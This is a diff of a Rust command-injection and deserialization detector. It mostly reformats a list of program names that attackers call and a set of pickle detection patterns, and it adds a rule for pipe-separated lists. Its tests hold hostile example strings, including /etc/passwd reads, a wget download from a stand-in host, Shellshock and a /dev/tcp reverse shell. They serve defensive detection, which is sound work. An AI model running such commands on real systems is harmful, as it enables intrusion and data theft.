@@ -5,20 +5,129 @@ use super::bytes::{has, has_any, is_word, tail};
 /// Programs that attackers call, by name. Words that prose is full of (`at`, `w`, `who`, `sort`) count
 /// only with a path before or an argument like `-x` or `/x` behind.
 const PROGRAMS: &[&[u8]] = &[
-    b"cat", b"ls", b"id", b"whoami", b"uname", b"wget", b"curl", b"nc", b"ncat", b"netcat", b"bash", b"sh", b"zsh", b"ksh",
-    b"dash", b"ping", b"nslookup", b"dig", b"ifconfig", b"ipconfig", b"netstat", b"ps", b"env", b"printenv", b"chmod",
-    b"chown", b"rm", b"cp", b"mv", b"touch", b"echo", b"printf", b"python", b"python3", b"perl", b"ruby", b"php", b"node",
-    b"powershell", b"pwsh", b"cmd", b"cmd.exe", b"certutil", b"net", b"dir", b"type", b"systeminfo", b"tasklist", b"reg",
-    b"sleep", b"head", b"tail", b"tac", b"nl", b"more", b"less", b"find", b"grep", b"awk", b"sed", b"sudo", b"su", b"tftp",
-    b"ftp", b"scp", b"ssh", b"telnet", b"socat", b"base64", b"xxd", b"hexdump", b"passwd", b"useradd", b"crontab", b"kill",
-    b"killall", b"mkfifo", b"nohup", b"lsof", b"hostname", b"host", b"busybox", b"xargs", b"tee", b"dd", b"gcc", b"cc", b"vi",
-    b"vim", b"pwd", b"cd", b"set", b"export", b"exec", b"eval", b"source", b"wmic", b"iwmi", b"start", b"reboot", b"shutdown",
+    b"cat",
+    b"ls",
+    b"id",
+    b"whoami",
+    b"uname",
+    b"wget",
+    b"curl",
+    b"nc",
+    b"ncat",
+    b"netcat",
+    b"bash",
+    b"sh",
+    b"zsh",
+    b"ksh",
+    b"dash",
+    b"ping",
+    b"nslookup",
+    b"dig",
+    b"ifconfig",
+    b"ipconfig",
+    b"netstat",
+    b"ps",
+    b"env",
+    b"printenv",
+    b"chmod",
+    b"chown",
+    b"rm",
+    b"cp",
+    b"mv",
+    b"touch",
+    b"echo",
+    b"printf",
+    b"python",
+    b"python3",
+    b"perl",
+    b"ruby",
+    b"php",
+    b"node",
+    b"powershell",
+    b"pwsh",
+    b"cmd",
+    b"cmd.exe",
+    b"certutil",
+    b"net",
+    b"dir",
+    b"type",
+    b"systeminfo",
+    b"tasklist",
+    b"reg",
+    b"sleep",
+    b"head",
+    b"tail",
+    b"tac",
+    b"nl",
+    b"more",
+    b"less",
+    b"find",
+    b"grep",
+    b"awk",
+    b"sed",
+    b"sudo",
+    b"su",
+    b"tftp",
+    b"ftp",
+    b"scp",
+    b"ssh",
+    b"telnet",
+    b"socat",
+    b"base64",
+    b"xxd",
+    b"hexdump",
+    b"passwd",
+    b"useradd",
+    b"crontab",
+    b"kill",
+    b"killall",
+    b"mkfifo",
+    b"nohup",
+    b"lsof",
+    b"hostname",
+    b"host",
+    b"busybox",
+    b"xargs",
+    b"tee",
+    b"dd",
+    b"gcc",
+    b"cc",
+    b"vi",
+    b"vim",
+    b"pwd",
+    b"cd",
+    b"set",
+    b"export",
+    b"exec",
+    b"eval",
+    b"source",
+    b"wmic",
+    b"iwmi",
+    b"start",
+    b"reboot",
+    b"shutdown",
 ];
 
 /// Programs whose name says it all when a separator stands before it and nothing behind.
 const BARE: &[&[u8]] = &[
-    b"id", b"whoami", b"ls", b"uname", b"ifconfig", b"ipconfig", b"netstat", b"env", b"printenv", b"pwd", b"ps", b"dir",
-    b"hostname", b"reboot", b"systeminfo", b"tasklist", b"sh", b"bash",
+    b"id",
+    b"whoami",
+    b"ls",
+    b"uname",
+    b"ifconfig",
+    b"ipconfig",
+    b"netstat",
+    b"env",
+    b"printenv",
+    b"pwd",
+    b"ps",
+    b"dir",
+    b"hostname",
+    b"reboot",
+    b"systeminfo",
+    b"tasklist",
+    b"sh",
+    b"bash",
 ];
 
 /// Strings of code that no value of an API needs.
@@ -101,13 +210,19 @@ fn plain_name(rest: &[u8], out: &mut [u8; 24]) -> (usize, usize) {
     }
     // A name in quotes alone is a string.
     let quoted = rest.first().is_some_and(|b| matches!(b, b'\'' | b'"')) && skip;
-    if quoted && !matches!(rest.get(used), None | Some(b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'\n')) { (0, 0) } else { (length, used) }
+    if quoted && !matches!(rest.get(used), None | Some(b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'\n')) {
+        (0, 0)
+    } else {
+        (length, used)
+    }
 }
 
 /// `; cat /etc/passwd`, `| id`, `$(whoami)`, `` `id` ``, `&& ls -la`.
 fn separated(text: &[u8]) -> Option<&'static str> {
     let mut at = 0;
-    while let Some(found) = tail(text, at).iter().position(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'(' | b'\n' | b'{')) {
+    while let Some(found) =
+        tail(text, at).iter().position(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'(' | b'\n' | b'{'))
+    {
         let here = at + found;
         at = here + 1;
         let sign = text.get(here).copied().unwrap_or_default();
@@ -124,8 +239,12 @@ fn separated(text: &[u8]) -> Option<&'static str> {
             continue;
         }
         let rest = rest.trim_ascii_start();
-        let rest = rest.get(rest.iter().take_while(|b| matches!(b, b'(' | b'{' | b'!' | b' ' | b',')).count()..).unwrap_or_default();
-        let strong = matches!(sign, b'`' | b'|' | b'(' | b'{') || doubled || sign == b';';
+        let rest = rest
+            .get(rest.iter().take_while(|b| matches!(b, b'(' | b'{' | b'!' | b' ' | b',')).count()..)
+            .unwrap_or_default();
+        // `title|price|id` lists names.
+        let listed = sign == b'|' && is_word(before) && memchr::memchr_iter(b'|', text).count() > 1;
+        let strong = matches!(sign, b'`' | b'|' | b'(' | b'{' | b';') && !listed || doubled;
         if command(rest, sign, strong, text.len() < 96) {
             return Some("a command behind a separator");
         }
@@ -135,9 +254,12 @@ fn separated(text: &[u8]) -> Option<&'static str> {
 
 /// Whether a command line begins here.
 fn command(rest: &[u8], sign: u8, strong: bool, short: bool) -> bool {
-    let path = rest.iter().take_while(|b| is_word(**b) || matches!(b, b'/' | b'.' | b'?' | b'*' | b'[' | b']' | b'-')).count();
+    let path =
+        rest.iter().take_while(|b| is_word(**b) || matches!(b, b'/' | b'.' | b'?' | b'*' | b'[' | b']' | b'-')).count();
     let program = rest.get(..path).unwrap_or_default();
-    if [&b"/bin/"[..], b"/usr/", b"/sbin/", b"/???/", b"/etc/", b"/opt/"].iter().any(|p| program.starts_with(p)) && path > 6 {
+    if [&b"/bin/"[..], b"/usr/", b"/sbin/", b"/???/", b"/etc/", b"/opt/"].iter().any(|p| program.starts_with(p))
+        && path > 6
+    {
         return true;
     }
     let mut room = [0; 24];
@@ -147,7 +269,8 @@ fn command(rest: &[u8], sign: u8, strong: bool, short: bool) -> bool {
         return false;
     }
     let behind = tail(rest, used);
-    let ended = behind.trim_ascii().is_empty() || matches!(behind.first(), Some(b';' | b'|' | b'&' | b')' | b'`' | b'}' | b'\'' | b'"' | b'#' | b'>'));
+    let ended = behind.trim_ascii().is_empty()
+        || matches!(behind.first(), Some(b';' | b'|' | b'&' | b')' | b'`' | b'}' | b'\'' | b'"' | b'#' | b'>'));
     let bare = BARE.contains(&name) && ended && strong;
     let ticked = matches!(sign, b'`' | b'(') && ended && strong;
     bare && short || ticked || argument(behind, name)
@@ -165,16 +288,33 @@ fn argument(behind: &[u8], name: &[u8]) -> bool {
         Some((b'c', rest)) => rest.starts_with(b":"),
         _ => false,
     };
-    let address = [&b"http://"[..], b"https://", b"ftp://", b"127.0.0.1", b"localhost", b"c:\\"].iter().any(|a| argument.starts_with(a));
+    let address = [&b"http://"[..], b"https://", b"ftp://", b"127.0.0.1", b"localhost", b"c:\\"]
+        .iter()
+        .any(|a| argument.starts_with(a));
     let numbered = [&b"sleep"[..], b"ping"].contains(&name) && argument.first().is_some_and(u8::is_ascii_digit);
     let host = [&b"ping"[..], b"nslookup", b"dig", b"curl", b"wget", b"host"].contains(&name)
-        && argument.split(|b| !is_word(*b) && !matches!(b, b'.' | b'-')).next().is_some_and(|h| h.contains(&b'.') && h.len() > 5);
+        && argument
+            .split(|b| !is_word(*b) && !matches!(b, b'.' | b'-'))
+            .next()
+            .is_some_and(|h| h.contains(&b'.') && h.len() > 5);
     spaced && (sign || address || numbered || host)
 }
 
 /// `system('id')`, `exec("ls")` and the like: a call of an interpreter with a string.
 fn called(text: &[u8]) -> Option<&'static str> {
-    const CALLS: &[&[u8]] = &[b"system", b"exec", b"popen", b"eval", b"assert", b"execsync", b"spawn", b"pcntl_exec", b"create_function", b"require", b"include"];
+    const CALLS: &[&[u8]] = &[
+        b"system",
+        b"exec",
+        b"popen",
+        b"eval",
+        b"assert",
+        b"execsync",
+        b"spawn",
+        b"pcntl_exec",
+        b"create_function",
+        b"require",
+        b"include",
+    ];
     for call in CALLS {
         for at in memchr::memmem::find_iter(text, call).take(64) {
             let led = at.checked_sub(1).and_then(|b| text.get(b)).is_none_or(|b| !is_word(*b) && *b != b' ');
@@ -184,7 +324,9 @@ fn called(text: &[u8]) -> Option<&'static str> {
             let Some((b'(', argument)) = rest.split_first() else { continue };
             let argument = argument.trim_ascii_start();
             let string = argument.first().is_some_and(|b| matches!(b, b'\'' | b'"' | b'$' | b'`'));
-            let named = !matches!(*call, b"require" | b"include" | b"assert") && (has_any(argument, &[b"base64", b"chr(", b"string."]) || BARE.iter().any(|n| argument.starts_with(n) && tail(argument, n.len()).starts_with(b")")));
+            let named = !matches!(*call, b"require" | b"include" | b"assert")
+                && (has_any(argument, &[b"base64", b"chr(", b"string."])
+                    || BARE.iter().any(|n| argument.starts_with(n) && tail(argument, n.len()).starts_with(b")")));
             if led && (string || named) {
                 return Some("a call of an interpreter");
             }
@@ -207,11 +349,17 @@ fn by_path(text: &[u8]) -> Option<&'static str> {
     let mut room = [0; 24];
     let (length, used) = plain_name(text, &mut room);
     let name = room.get(..length).unwrap_or_default();
-    let known = PROGRAMS.contains(&name) && ![&b"find"[..], b"host", b"set", b"type", b"more", b"start", b"source"].contains(&name);
+    let known = PROGRAMS.contains(&name)
+        && ![&b"find"[..], b"host", b"set", b"type", b"more", b"start", b"source"].contains(&name);
     // Prose begins with such words too; it does not go on with a path.
     let behind = tail(text, used).trim_ascii_start();
-    let target = behind.starts_with(b"/etc/") || behind.starts_with(b"-") && has_any(behind, &[b"http", b"/"]) || behind.starts_with(b"http") || behind.starts_with(b"/proc/") || behind.starts_with(b"c:\\");
-    (known && text.get(used).is_some_and(|b| matches!(b, b' ' | b'\t' | b'+' | b'$' | b'<')) && target).then_some("a command line")
+    let target = behind.starts_with(b"/etc/")
+        || behind.starts_with(b"-") && has_any(behind, &[b"http", b"/"])
+        || behind.starts_with(b"http")
+        || behind.starts_with(b"/proc/")
+        || behind.starts_with(b"c:\\");
+    (known && text.get(used).is_some_and(|b| matches!(b, b' ' | b'\t' | b'+' | b'$' | b'<')) && target)
+        .then_some("a command line")
 }
 
 /// Objects of Java, PHP, Python, Ruby and .NET that run code when they are read back. Looks at the
@@ -226,7 +374,12 @@ pub(super) fn object(raw: &[u8], inner: Option<&[u8]>) -> Option<&'static str> {
         }
         // Pickle: protocol 2 to 5, ends in STOP; harmless ones hold no module that runs things.
         let pickle = matches!(bytes.get(..2), Some([0x80, 2..=5])) && bytes.last() == Some(&b'.');
-        if pickle && has_any(bytes, &[b"builtin", b"posix", b"\x02nt", b"subprocess", b"os\nsystem", b"eval", b"exec", b"__reduce"]) {
+        if pickle
+            && has_any(
+                bytes,
+                &[b"builtin", b"posix", b"\x02nt", b"subprocess", b"os\nsystem", b"eval", b"exec", b"__reduce"],
+            )
+        {
             return Some("a pickled Python object that runs code");
         }
         if has_any(bytes, &[b"cos\nsystem\n", b"cposix\nsystem\n", b"c__builtin__\neval\n", b"csubprocess\n"]) {
@@ -250,9 +403,24 @@ mod tests {
     #[test]
     fn commands_and_code() {
         for attack in [
-            "; cat /et'c/pa'ss'wd", "127.0.0.1 && ls /etc", "a;id;", "| id", "`id`", "$(whoami)", "|/usr/bin/id", "a);id|",
-            "() { :; }; /bin/bash -c 'x'", "cat /etc/passwd", "${@print(md5(31337))}", "system('id')", "eval(base64_decode('eA=='))",
-            "x; ping -c 4 10.0.0.1", "<?php echo 1 ?>", "{{get.__globals__.__builtins__}}", "wget http://x.example/a.sh", "| /bin/sleep 31 ;",
+            "; cat /et'c/pa'ss'wd",
+            "127.0.0.1 && ls /etc",
+            "a;id;",
+            "| id",
+            "`id`",
+            "$(whoami)",
+            "|/usr/bin/id",
+            "a);id|",
+            "() { :; }; /bin/bash -c 'x'",
+            "cat /etc/passwd",
+            "${@print(md5(31337))}",
+            "system('id')",
+            "eval(base64_decode('eA=='))",
+            "x; ping -c 4 10.0.0.1",
+            "<?php echo 1 ?>",
+            "{{get.__globals__.__builtins__}}",
+            "wget http://x.example/a.sh",
+            "| /bin/sleep 31 ;",
             "/bin/bash -c \"sh -i>& /dev/tcp/x/1\"",
         ] {
             assert!(lower(attack).is_some(), "{attack}");
@@ -262,10 +430,24 @@ mod tests {
     #[test]
     fn prose_names_programs_too() {
         for text in [
-            "echo in the mirror", "curl and divergence", "exec noun", "bash away in the gym", "zsh is the best!", "ls 300 lexus",
-            "nc 8000 controller", "the Senora found herself a heroine; more than that, she became aware", "Tom & Jerry; cat & mouse",
-            "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko", "text/html;q=0.8", "a|b|id", "Mozilla/5.0 (Linux; U; Android 9; en-us)",
-            "cat food & dog food", "less spicy; more salt", "tea (host: ravi)", "meet at the café; find me", "a; set price 5",
+            "echo in the mirror",
+            "curl and divergence",
+            "exec noun",
+            "bash away in the gym",
+            "zsh is the best!",
+            "ls 300 lexus",
+            "nc 8000 controller",
+            "the Senora found herself a heroine; more than that, she became aware",
+            "Tom & Jerry; cat & mouse",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko",
+            "text/html;q=0.8",
+            "a|b|id",
+            "Mozilla/5.0 (Linux; U; Android 9; en-us)",
+            "cat food & dog food",
+            "less spicy; more salt",
+            "tea (host: ravi)",
+            "meet at the café; find me",
+            "a; set price 5",
         ] {
             assert_eq!(lower(text), None, "{text}");
         }
